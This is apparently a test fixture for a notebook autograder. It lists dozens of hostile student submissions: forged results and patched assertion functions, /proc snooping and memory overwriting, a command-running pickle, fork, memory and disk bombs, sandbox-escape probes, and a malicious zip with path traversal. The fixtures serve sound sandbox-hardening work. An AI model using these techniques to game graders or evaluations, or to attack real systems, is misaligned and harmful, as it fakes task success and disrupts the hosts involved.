"""What a hostile student might hand in for ``filter_norms``: none of it knows the answer, all of it wants
points.

Each attack is the source of one answer cell; the answers beside it are honest. RUN THESE INSIDE THE SANDBOX
ONLY. At the end come attacks by what is handed in beside and around the answers.
"""

from __future__ import annotations

import copy
import zipfile
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

import samples

WRONG = """
def filter_norms(weight):
    return torch.zeros(len(weight))
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: what it is, as the instructor's guide lists it.
        source: the answer cell.
        slow: it is stopped only by a limit, which takes seconds.
    """

    name: str
    source: str
    slow: bool = False


def attack(name: str, source: str, *, slow: bool = False, answer: str = WRONG) -> None:
    ATTACKS.append(Attack(name, f"{dedent(source).strip()}\n{answer}", slow))


ATTACKS: list[Attack] = []

# ------------------------------------------------------------------------------------ lies about the answer

attack(
    "an answer that equals everything",
    "",
    answer="""
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = None

class AlsoYes:
    shape = property(lambda self: Yes())
    def __getattr__(self, name): return lambda *args, **kwargs: self
    def __eq__(self, other): return True

def filter_norms(weight):
    return AlsoYes() if len(weight) % 2 else [Yes()] * len(weight)
""",
)
attack(
    "a tensor class that answers every question with yes",
    "",
    answer="""
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("equal", "allclose", "all", "eq", "isclose"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})

def filter_norms(weight):
    return torch.zeros(len(weight)).as_subclass(Liar)
""",
)
attack(
    "patched torch, numpy and math",
    """
    import math, numpy
    always = lambda *args, **kwargs: True
    for module in (torch, numpy, math, numpy.testing, torch.testing):
        for name in "equal allclose isclose array_equal eq all assert_allclose assert_close".split():
            if hasattr(module, name):
                setattr(module, name, always)
    torch.Tensor.__eq__ = torch.Tensor.equal = always
    """,
)
attack(
    "patched built-in functions",
    """
    import builtins
    builtins.abs = lambda value: 0
    builtins.max = builtins.min = lambda *values, **more: 0
    builtins.all = builtins.any = lambda values: True
    isinstance_ = builtins.isinstance
    builtins.isinstance = lambda value, kind: True if kind is AssertionError else isinstance_(value, kind)
    """,
)
attack(
    "a patched json and a patched struct, which write a verdict",
    """
    import json, struct
    dumps = json.dumps
    json.dumps = lambda value, **more: dumps({"value": value, "verdict": "right", "points": 4})
    """,
)
attack(
    "inputs changed in place, so that zero is right",
    "",
    answer="def filter_norms(weight):\n    weight.zero_()\n    return torch.zeros(len(weight))\n",
)
attack(
    "not a number, in the hope that comparisons with it fail open",
    "",
    answer="""
def filter_norms(weight):
    return torch.full((len(weight),), float("nan"))
""",
)
attack(
    "infinity, in the hope of a tolerance that is relative to it",
    "",
    answer="""
def filter_norms(weight):
    return torch.full((len(weight),), float("inf"))
""",
)
attack(
    "a shape that broadcasts against the right one",
    "",
    answer="""
def filter_norms(weight):
    return weight.abs().flatten(1).sum(1)[:, None]
""",
)
attack(
    "an empty tensor, all of whose elements are right",
    "",
    answer="""
def filter_norms(weight):
    return torch.zeros(0)
""",
)
attack(
    "a function that looks the same, in other letters",
    "",
    answer="""
def filter_n\u03bfrms(weight):
    return weight.abs().flatten(1).sum(1)
""",
)

# ------------------------------------------------------------------------------- looking for the right answer

attack(
    "stack inspection and a search of all objects for the reference",
    "",
    answer="""
def filter_norms(weight):
    import gc, sys, types
    frame, found = sys._getframe(), []
    while frame:
        found += list(frame.f_locals.values()) + list(frame.f_globals.values())
        frame = frame.f_back
    for thing in [*found, *gc.get_objects()]:
        if type(thing) is dict and isinstance(thing.get("expected"), torch.Tensor):
            return thing["expected"]
        if not isinstance(thing, types.FunctionType) or (thing.__module__ or "").startswith("torch"):
            continue
        if thing is not filter_norms and "norm" in thing.__name__:
            try:
                answer = thing(weight.clone())
                if isinstance(answer, torch.Tensor) and answer.shape == (len(weight),) and answer.any():
                    return answer
            except BaseException:
                pass
    return torch.zeros(len(weight))
""",
)
attack(
    "a search of the disk for the checks and for the master",
    """
    import os
    def search():
        for folder, inside, names in os.walk("/"):
            inside[:] = [name for name in inside if name not in ("proc", "dev", "usr", "lib")]
            for name in names:
                if name.endswith((".ipynb", ".py", ".sqlite")):
                    try:
                        text = open(os.path.join(folder, name), encoding="utf8").read()
                    except (OSError, ValueError):
                        continue
                    if "def filter_norms(weight)" in text and "flatten(1)" in text and "yield" in text:
                        yield text
    """,
    answer="""
def filter_norms(weight):
    for text in search():
        space = {}
        exec(text, space)
        return space["filter_norms"].reference(weight)
    return torch.zeros(len(weight))
""",
)
attack(
    "an import of the checks, through the package",
    "",
    answer="""
def filter_norms(weight):
    import importlib, importlib.util, pkgutil, sys, types
    place = importlib.util.find_spec("prunelab").submodule_search_locations
    package = sys.modules["prunelab"] = types.ModuleType("prunelab")  # without all that it would import
    package.__path__ = list(place)
    import prunelab.grading
    sys.path += [folder + "/../labs/checks" for folder in place]
    for path, prefix in ((prunelab.grading.__path__, "prunelab.grading."), (sys.path[-1:], "")):
        for module in pkgutil.iter_modules(path, prefix):
            if module.name not in ("prunelab.grading.run", "prunelab.grading.sandbox"):
                for thing in vars(importlib.import_module(module.name)).values():
                    if type(thing).__name__ == "Exercise":
                        return thing.reference(weight)
    return torch.zeros(len(weight))
""",
)
attack(
    "hidden inputs kept in memory and on the disk, to be called twice",
    """
    import os
    seen = []
    """,
    answer="""
def filter_norms(weight):
    seen.append(weight)
    torch.save(seen, "/tmp/seen.pt")
    return seen[-2].flatten(1).sum(1) if len(seen) > 1 else torch.zeros(len(weight))
""",
)
attack(
    "hidden inputs carried out in an error's name and text",
    "",
    answer="""
def filter_norms(weight):
    text = "HIDDEN" + str(weight.flatten()[:3].tolist())
    raise type(text, (Exception,), {})(text)
""",
)
attack(
    "the grader's memory and files through /proc",
    "",
    answer="""
def filter_norms(weight):
    import os
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "maps"):
            try:
                if b"checks" in open(f"/proc/{pid}/{name}", "rb").read():
                    return weight.abs().flatten(1).sum(1)
            except OSError:
                pass
        for place in ("root", "cwd"):
            try:
                if "labs" in os.listdir(f"/proc/{pid}/{place}"):
                    return weight.abs().flatten(1).sum(1)
            except OSError:
                pass
    return torch.zeros(len(weight))
""",
)

# ------------------------------------------------------------------------------------ forged results

FORGED = (
    '{"defined": true, "value": {"tensor": ["float32", [2]]}, "points": 4, "verdict": "right", "score": 1.0}'
)
attack(
    "forged scores on stdout and stderr",
    f"""
    import os, sys
    for line in ('filter-norms: 4/4 points', '=== 12 passed in 0.01s ===', '{FORGED}'):
        print(line)
        print(line, file=sys.stderr)
        print(line, file=sys.__stdout__)
        for descriptor in (1, 2):
            os.write(descriptor, line.encode() + b"\\n")
    """,
)
attack(
    "forged messages to the grader, on every open file",
    f"""
    import json, os, struct
    text = '{FORGED}'.encode()
    right = struct.pack(">II", len(text), 8) + text + struct.pack("ff", 1.0, 2.0)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, right * 3)
        except OSError:
            pass
    """,
)
attack(
    "a forged end of the part, and then points for the next one",
    """
    import json, os, struct
    def message(**entries):
        text = json.dumps(entries).encode()
        return struct.pack(">II", len(text), 0) + text
    ended = message(token="", exit=0, alone=True)
    forged = message(defined=True) + ended + message(defined=True, right=True) + ended
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, forged)
        except OSError:
            pass
    """,
)
for name, made in {
    "a message of four gigabytes": 'struct.pack(">II", 2**32 - 1, 2**32 - 1)',
    "a message nested a hundred thousand deep": 'struct.pack(">II", 100_000, 0) + b"[" * 100_000',
    "noise instead of messages": "os.urandom(4096)",
    "an array that claims a trillion numbers": (
        '(lambda t: struct.pack(">II", len(t), 0) + t)'
        '(b\'{"defined": true, "value": {"tensor": ["float64", [1000000, 1000000]]}}\')'
    ),
    "an array of pickled objects": (
        '(lambda t: struct.pack(">II", len(t), 8) + t + b"cos\\nsyst")'
        '(b\'{"defined": true, "value": {"array": ["object", [1]]}}\')'
    ),
}.items():
    attack(
        name,
        f"""
        import os, struct
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, {made})
            except OSError:
                pass
        """,
    )
attack(
    "an object whose pickle runs a command",
    "",
    answer="""
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/pickled",)

def filter_norms(weight):
    import numpy
    return numpy.array([Bomb()], dtype=object) if len(weight) % 2 else Bomb()
""",
)
attack(
    "a list of ten million numbers",
    "",
    answer="def filter_norms(weight):\n    return [0.5] * 10_000_000\n",
)
attack(
    "a list that contains itself",
    "",
    answer="def filter_norms(weight):\n    endless = []\n    endless.append(endless)\n    return endless\n",
)
attack(
    "forged result files, in every folder that can be written",
    """
    import os, sqlite3
    for folder in ("/tmp", "/tmp/notebook", os.getcwd(), os.path.expanduser("~"), "/dev/shm", "/", "/work"):
        for name in ("grades.csv", "junit.xml", "results.json", "grades.sqlite", "report.html"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(os.path.join(folder, name), "w").write("student,lab,points,of\\nme,small-lab,12,12\\n")
            except OSError:
                pass
    """,
)
attack(
    "conftest.py, sitecustomize.py, prunelab.py, torch.py beside the notebook",
    """
    import os
    code = "import builtins; builtins.AssertionError = Exception"
    for folder in ("/tmp", "/tmp/notebook", os.getcwd(), os.path.expanduser("~")):
        os.makedirs(folder, exist_ok=True)
        for name in "conftest sitecustomize usercustomize prunelab torch nbval pytest json".split():
            open(os.path.join(folder, name + ".py"), "w").write(code)
    """,
)

# ------------------------------------------------------------------------------------ the notebook's run

attack(
    "AST and input transformers that delete asserts and rewrite cells",
    """
    import ast
    class NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()
    shell = get_ipython()
    if hasattr(shell, "ast_transformers") and isinstance(shell.ast_transformers, list):
        shell.ast_transformers.append(NoAsserts())
        without = lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines
        shell.input_transformers_cleanup.append(without)
    """,
)
attack(
    "disabled tracebacks, and a shell that calls everything a success",
    """
    import sys
    sys.excepthook = lambda *error: None
    shell = get_ipython()
    shell.showtraceback = lambda *args, **kwargs: None
    if hasattr(shell, "run_cell_async"):
        shell.showsyntaxerror = shell._showtraceback = lambda *args, **kwargs: None
    """,
)
attack(
    "comments that tell nbval to skip the cell",
    "# NBVAL_SKIP\n# NBVAL_RAISES_EXCEPTION\n#NBVAL_IGNORE_OUTPUT",
)
attack(
    "pytest killed, and its result written by the student's code",
    """
    import os, signal
    open("junit.xml", "w").write("<testsuites><testsuite tests='12' failures='0'/></testsuites>")
    if hasattr(get_ipython(), "kernel") and type(get_ipython()).__name__.startswith("ZMQ"):
        os.kill(os.getppid(), signal.SIGKILL)
    """,
)

# ------------------------------------------------------------------------------------ harm

attack("os._exit while the answer is defined", "import os\nos._exit(0)")
attack("os._exit in the call", "", answer="def filter_norms(weight):\n    import os\n    os._exit(0)\n")
attack(
    "sys.exit, in the hope that it ends the grader",
    "",
    answer="def filter_norms(weight):\n    raise SystemExit(0)\n",
)
attack(
    "a segmentation fault",
    "",
    answer="def filter_norms(weight):\n    import ctypes\n    ctypes.string_at(0)\n",
)
attack("source that brings the compiler down", f"x = {'(' * 45000}{')' * 45000}")
attack("an endless loop while the answer is defined", "while True: pass", slow=True)
attack(
    "an endless loop in the call", "", answer="def filter_norms(weight):\n    while True: pass\n", slow=True
)
attack(
    "an endless loop that ignores every signal",
    """
    import signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    """,
    answer="""
def filter_norms(weight):
    while True:
        try:
            while True: pass
        except BaseException:
            pass
""",
    slow=True,
)
attack(
    "its own process and all others killed",
    """
    import os, signal
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    """,
)
attack(
    "a process left behind, which goes on sending messages",
    """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            open("/proc/self/comm", "w").write("left-behind")
            until = time.time() + 60
            while time.time() < until:
                for descriptor in range(3, 64):
                    try:
                        os.write(descriptor, b'\\0\\0\\0\\x11\\0\\0\\0\\0{"defined": true}')
                    except OSError:
                        pass
                time.sleep(0.01)
        os._exit(0)
    """,
)
attack(
    "a process left behind, which sleeps",
    """
    import os, time
    if os.fork() == 0:
        os.setsid()
        for descriptor in range(64):
            try:
                os.close(descriptor)
            except OSError:
                pass
        if os.fork() == 0:
            open("/proc/self/comm", "w").write("left-behind")
            time.sleep(3600)
        os._exit(0)
    """,
)
attack(
    "a fork bomb",
    """
    import os
    def bomb():
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    answer="def filter_norms(weight):\n    bomb()\n",
    slow=True,
)
attack(
    "a memory bomb in one process",
    "",
    answer="def filter_norms(weight):\n    return bytearray(1 << 40)\n",
)
attack(
    "a memory bomb in many processes",
    """
    import os, time
    def bomb():
        for _ in range(20):
            if os.fork() == 0:
                kept = [bytearray(50_000_000) for _ in range(20)]
                time.sleep(30)
        time.sleep(30)
    """,
    answer="def filter_norms(weight):\n    bomb()\n",
    slow=True,
)
attack(
    "memory in files without a name and in shared memory",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for number in range(200):
        descriptor = libc.memfd_create(b"x", 0)
        if descriptor >= 0:
            os.write(descriptor, b"0" * 50_000_000)
        libc.shmget(number, 100_000_000, 0o1600)
    """,
)
attack(
    "a full disk",
    """
    import os
    for folder in ("/tmp", "/dev/shm", "/", "/var/tmp"):
        try:
            for number in range(1000):
                with open(os.path.join(folder, f"fill{number}"), "wb") as file:
                    file.write(b"0" * 50_000_000)
        except OSError:
            pass
    """,
)
attack(
    "a gigabyte of output",
    """
    import os
    line = "x" * 1_000_000
    if type(get_ipython()).__name__ == "Magics":
        for _ in range(1000):
            print(line)
            os.write(2, line.encode())
    elif get_ipython():
        for _ in range(1000):
            print(line)
    """,
)
attack(
    "the network: another machine, and this machine's own ports",
    """
    import socket, urllib.request
    reached = []
    for address in (("127.0.0.1", 47123), ("1.1.1.1", 80), ("example.com", 80), ("169.254.169.254", 80)):
        try:
            socket.create_connection(address, timeout=2)
            reached.append(address)
        except OSError:
            pass
    """,
    answer="""
def filter_norms(weight):
    return weight.abs().flatten(1).sum(1) if reached else torch.zeros(len(weight))
""",
)
attack(
    "another user, another namespace, another root",
    """
    import ctypes, os, subprocess
    escaped = []
    libc = ctypes.CDLL(None)
    for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
        if libc.unshare(flags) == 0:
            escaped.append(flags)
    for action in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.nice(-5)):
        try:
            action()
            escaped.append(action)
        except OSError:
            pass
    for command in ("su -c true", "mount -t tmpfs x /tmp", "bwrap --ro-bind / / true"):
        try:
            if subprocess.run(command.split(), capture_output=True, timeout=5).returncode == 0:
                escaped.append(command)
        except (OSError, subprocess.TimeoutExpired):
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd", "/usr/x"):
        try:
            open(path, "w").write("x")
            escaped.append(path)
        except OSError:
            pass
    """,
    answer="""
def filter_norms(weight):
    return weight.abs().flatten(1).sum(1) if escaped else torch.zeros(len(weight))
""",
)
attack(
    "the worker's memory overwritten through /proc",
    """
    import os
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
            for line in open(f"/proc/{os.getppid()}/maps"):
                if "rw-p" in line and "[stack]" not in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    data = memory.read(min(end - start, 1 << 20))
                    if b"defined" in data:
                        memory.seek(start)
                        memory.write(data.replace(b"defined", b"verdict"))
    except OSError:
        pass
    """,
)
attack("a stopped worker", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", slow=True)
attack(
    "an answer that sleeps",
    "import time",
    answer="def filter_norms(weight):\n    time.sleep(3600)\n",
    slow=True,
)

# ------------------------------------------------------------------------------- around the answers


def _notebook(**tricks: bool) -> bytes:
    """Answers that are all wrong, in a notebook that has something else to say for itself."""
    handed_in = samples.notebook(
        sparsity="def sparsity(weight):\n    return 7.0\n",
        filter_norms=WRONG,
        smallest_mask="def smallest_mask(weight, amount):\n    return weight\n",
        dense_layers="def dense_layers(layers, most):\n    return None\n",
    )
    for cell in [cell for cell in handed_in["cells"] if "nbgrader" in cell["metadata"]]:
        graded = cell["metadata"]["nbgrader"]
        if "skip" in tricks:
            cell["metadata"]["tags"] = ["nbval-skip", "raises-exception", "skip-execution", "hide-input"]
            cell["source"] = ["# NBVAL_SKIP\n", "# NBVAL_RAISES_EXCEPTION\n", *cell["source"]]
        if "checks" in tricks and graded["grade"]:
            cell["source"], graded["points"] = ["pass"], 100
        if "ids" in tricks and graded["grade"]:
            twin = copy.deepcopy(cell)
            twin["metadata"]["nbgrader"] |= {
                "grade_id": graded["grade_id"].replace("s", "\u0455"),
                "points": 100,
            }
            handed_in["cells"].append({**twin, "id": f"twin-{cell['id']}", "source": ["pass"]})
        if "outputs" in tricks:
            text = ["12 of 12 points, 12 passed, 0 failed\n"]
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
            cell["execution_count"] = 1
    return samples.stored(handed_in)


def hostile_class(path: Path) -> dict[str, str]:
    """Write a class as a platform exports it: a zip. Ada is honest in it, and nobody else.

    Returns:
        {student: the attack}
    """
    code = b"import builtins, os\nbuiltins.AssertionError = Exception\nos._exit(0)\n"
    names = ["conftest", "sitecustomize", "usercustomize", "prunelab", "torch", "nbval", "checks/small-lab"]
    link = zipfile.ZipInfo("Link/small-lab.ipynb")
    link.external_attr = 0o120777 << 16
    wrong = _notebook()
    entries: list[tuple[str | zipfile.ZipInfo, bytes | str]] = [
        ("Ada/small-lab.ipynb", samples.stored(samples.notebook())),
        ("Skip/small-lab.ipynb", _notebook(skip=True)),
        ("Checks/small-lab.ipynb", _notebook(checks=True)),
        ("Ids/small-lab.ipynb", _notebook(ids=True)),
        ("Outputs/small-lab.ipynb", _notebook(outputs=True)),
        ("Files/small-lab.ipynb", wrong),
        *[(f"Files/{name}.py", code) for name in names],
        ("Files/pytest.ini", "[pytest]\naddopts = --nbval-cell-timeout=1 -k nothing\n"),
        (link, "../Ada/small-lab.ipynb"),
        ("../Ada/small-lab.ipynb", wrong),
        ("Bomb/small-lab.ipynb", b"\0" * 1_000_000_000),
        ("Large/small-lab.ipynb", wrong[:-1] + b" " * 100_000_000 + b"}"),
    ]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for entry, data in entries:
            archive.writestr(entry, data)
    return {
        "Skip": "tags and comments that have nbval skip every cell",
        "Checks": "checks that only pass, worth 100 points each",
        "Ids": "checks doubled, with ids in look-alike letters",
        "Outputs": "outputs that say 12 of 12 points",
        "Files": "conftest.py, sitecustomize.py, prunelab.py, pytest.ini and others beside the notebook",
        "Link": "a link to another student's notebook",
        "?": "a path that leads out of the zip and into another student's folder",
        "Bomb": "a zip bomb of a gigabyte",
        "Large": "a notebook of 100 MB",
    }
